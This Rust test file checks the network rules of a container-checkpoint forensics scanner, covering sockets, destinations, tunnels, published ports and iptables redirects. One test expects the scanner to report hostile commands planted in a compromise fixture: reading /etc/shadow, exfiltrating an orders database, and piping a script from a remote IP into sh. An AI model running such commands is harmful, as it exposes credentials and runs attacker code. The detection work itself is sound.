//! Rules about sockets and traffic: what was planted in a compromise, sockets that are changed one at a time, and silence over
//! ordinary ones.

use cryoscope::Checkpoint;
use cryoscope::analysis::{Cost, Finding, Scan, Selection, Severity};
use cryoscope::images::proto::{FileEntry, PacketMclist};
use cryoscope::model::ids::Pid;
use serde_json::{Value, json};

use crate::archives::Members;
use crate::fixtures;

fn scan_at(checkpoint: &Checkpoint, cost: Cost) -> Scan {
    let mut selection = Selection::default();
    selection.only = vec!["NET".to_owned()];
    selection.cost = cost;
    Scan::run(checkpoint, &selection)
}

fn scan(members: &Members) -> Scan {
    scan_at(&members.open(), Cost::Files)
}

fn of<'s>(scan: &'s Scan, rule: &'s str) -> impl Iterator<Item = &'s Finding> {
    scan.findings.iter().filter(move |finding| finding.rule.id == rule)
}

fn severity(scan: &Scan, rule: &str, pid: u32) -> Option<Severity> {
    let about = |finding: &&Finding| finding.pid == Some(Pid(pid)) || finding.also_pids.contains(&Pid(pid));
    of(scan, rule).filter(about).map(|finding| finding.severity).max()
}

#[test]
fn the_evidence_has_the_commands_that_were_planted() {
    let scan = scan_at(&Checkpoint::open(fixtures::archive_of("webapp-compromise")).unwrap(), Cost::Memory);
    let commands = of(&scan, "NET-016").find(|finding| finding.pid == Some(Pid(23))).unwrap();
    let lines: Vec<String> = commands.evidence.iter().filter_map(|one| Some(one.text.as_ref()?.to_string())).collect();
    for line in ["cat /etc/shadow", "exfil /srv/shop/orders.db", "curl -s http://203.0.113.66/u.sh | sh"] {
        assert!(lines.iter().any(|text| text.contains(line)), "{line}: {lines:?}");
    }
    // The service listens on its own port.
    assert_eq!(severity(&scan, "NET-001", 1), Some(Severity::Info));
}

#[test]
fn ordinary_sockets_are_at_most_medium() {
    for case in ["sockets-tcp", "sockets-unix", "bridge-net", "host-net", "pod", "exec-into", "containerd2-logs", "ipc"]
    {
        let checkpoint = Checkpoint::open(fixtures::archive_of(case)).unwrap();
        let scan = scan_at(&checkpoint, Cost::Files);
        let loud: Vec<_> = scan.findings.iter().filter(|finding| finding.severity >= Severity::Medium).collect();
        // `host-net` has raw sockets of a program that nobody knows.
        assert!(
            loud.iter().all(|finding| finding.severity == Severity::Medium && finding.rule.id == "NET-006"),
            "{case}: {loud:?}"
        );
        assert!(loud.len() <= 1, "{case}");
    }
}

/// The sockets of a test program, with the one that is bound to a port changed.
fn with_peer(port: u32, address: [u8; 4], remote: u32) -> Scan {
    let mut members = Members::of(&fixtures::archive_of("sockets-udp"));
    members.edit::<FileEntry>("checkpoint/files.img", |_, file| {
        if let Some(socket) = file.isk.as_mut().filter(|socket| socket.src_port == Some(port)) {
            socket.dst_addr = vec![u32::from_le_bytes(address)];
            socket.dst_port = Some(remote);
        }
    });
    scan(&members)
}

#[test]
fn destinations_decide() {
    let scan = with_peer(5016, [169, 254, 169, 254], 80);
    assert_eq!(severity(&scan, "NET-004", 1), Some(Severity::Medium));
    assert_eq!(severity(&scan, "NET-002", 1), None, "not on the internet");
    let scan = with_peer(5016, [8, 8, 8, 8], 53);
    assert_eq!(severity(&scan, "NET-002", 1), Some(Severity::Info), "inventory");
    assert_eq!(severity(&scan, "NET-012", 1), Some(Severity::Low));
    let scan = with_peer(5016, [10, 96, 0, 1], 6443);
    assert_eq!(severity(&scan, "NET-010", 1), Some(Severity::Info));
    let scan = with_peer(5016, [10, 0, 0, 7], 53);
    for rule in ["NET-002", "NET-004", "NET-010", "NET-012"] {
        assert_eq!(severity(&scan, rule, 1), None, "{rule}: a server of one's own");
    }
}

#[test]
fn packet_sockets_are_one_finding_and_promiscuous_mode_another() {
    let mut members = Members::of(&fixtures::archive_of("sockets-udp"));
    let before = scan(&members);
    assert_eq!(severity(&before, "NET-006", 1), Some(Severity::Medium));
    assert_eq!(of(&before, "NET-006").count(), 1);
    assert!(of(&before, "NET-006").next().unwrap().evidence.len() >= 4, "all sockets are evidence");
    assert_eq!(severity(&before, "NET-007", 1), None);
    members.edit::<FileEntry>("checkpoint/files.img", |_, file| {
        if let Some(socket) = file.psk.as_mut() {
            socket.mclist.push(PacketMclist { index: Some(1), r#type: Some(1), addr: None });
        }
    });
    assert_eq!(severity(&scan(&members), "NET-007", 1), Some(Severity::High));
}

#[test]
fn a_connection_to_the_socket_of_an_engine_is_critical() {
    let mut members = Members::of(&fixtures::archive_of("sockets-unix"));
    members.edit::<FileEntry>("checkpoint/files.img", |_, file| {
        let name = file.usk.as_mut().and_then(|socket| socket.name.as_mut());
        if let Some(name) = name.filter(|name| name.starts_with(b"/tmp/stream.sock")) {
            *name = b"/run/docker.sock\0".to_vec();
        }
    });
    let scan = scan(&members);
    assert_eq!(severity(&scan, "NET-009", 1), Some(Severity::Critical));
}

#[test]
fn a_tunnel_is_found_by_its_device() {
    let mut members = Members::of(&fixtures::archive_of("sockets-udp"));
    members.edit::<FileEntry>("checkpoint/files.img", |_, file| {
        if let Some(reg) = file.reg.as_mut().filter(|_| file.id == Some(2)) {
            reg.name = Some(b"/dev/net/tun".to_vec());
        }
    });
    assert_eq!(severity(&scan(&members), "NET-008", 1), Some(Severity::Medium));
}

#[test]
fn ports_that_the_engine_published_are_expected() {
    let listeners = |command: Value| {
        let mut members = Members::of(&fixtures::archive_of("sockets-tcp"));
        let mut config: Value = serde_json::from_slice(members.get("config.dump")).unwrap();
        config["CreateCommand"] = command;
        members.set("config.dump", config.to_string());
        let scan = scan(&members);
        let found = |port: u32| {
            let is_it = |finding: &&Finding| finding.sentence.contains(&format!("port {port},"));
            of(&scan, "NET-001").find(is_it).map(|finding| finding.severity)
        };
        (found(8080), found(8082), found(8081))
    };
    let (info, low) = (Some(Severity::Info), Some(Severity::Low));
    assert_eq!(listeners(json!(["podman", "run", "lab"])), (info, info, None), "8081 is on loopback");
    assert_eq!(listeners(json!(["podman", "run", "-p", "80:8080", "lab"])), (None, low, None));
}

#[test]
fn redirections_and_connections_of_the_past_are_found_in_the_network() {
    let mut members = Members::of(&fixtures::archive_of("sockets-unix"));
    members.set(
        "checkpoint/iptables-10.img",
        "*nat\n:OUTPUT ACCEPT [0:0]\n:ISTIO_OUTPUT - [0:0]\n-A OUTPUT -p tcp --dport 80 -j REDIRECT --to-ports 9999\n\
         -A ISTIO_OUTPUT -j REDIRECT --to-ports 15001\nCOMMIT\n",
    );
    let scan = scan(&members);
    let rules: Vec<_> = of(&scan, "NET-013").collect();
    assert_eq!(rules.len(), 1, "{rules:?}");
    assert!(rules[0].sentence.contains("--to-ports 9999"), "{}", rules[0].sentence);
}

#[test]
fn a_program_with_the_name_of_the_command_is_not_the_service() {
    for (args, expected) in [(["xmrig"], Severity::High), (["/tmp/.cache/.x/xmrig"], Severity::Info)] {
        let mut members = Members::of(&fixtures::archive_of("webapp-compromise"));
        let mut spec: Value = serde_json::from_slice(members.get("spec.dump")).unwrap();
        spec["process"]["args"] = json!(args);
        members.set("spec.dump", serde_json::to_vec(&spec).unwrap());
        assert_eq!(severity(&scan(&members), "NET-002", 21), Some(expected), "{args:?}");
    }
}
